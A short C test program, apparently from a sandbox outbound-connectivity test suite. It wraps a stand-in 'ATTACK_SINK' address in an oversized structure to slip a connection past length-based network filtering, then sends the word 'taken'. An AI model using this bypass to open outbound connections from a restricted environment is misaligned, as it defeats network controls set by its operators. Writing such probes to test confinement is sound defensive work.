// class: network
// rule: outbound_connectivity
// success: a C program connects to an address in a structure longer than any
// proof: sink
#include "attack.h"

int main(void)
{
    char room[128] = {0};
    struct sockaddr_in sink = endpoint("ATTACK_SINK");
    memcpy(room, &sink, sizeof sink);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)room, sizeof room) != 0) return stopped("connect");
    (void)!write(fd, "taken", 5);
    return reached();
}
